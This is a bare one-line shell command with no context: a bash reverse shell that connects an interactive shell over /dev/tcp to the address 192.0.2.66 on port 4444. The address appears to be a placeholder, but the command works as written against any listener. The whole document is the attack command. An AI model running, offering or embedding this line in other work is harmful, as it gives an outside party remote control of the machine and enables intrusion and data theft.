/bin/bash -c '/bin/bash -i >& /dev/tcp/192.0.2.66/4444 0>&1'
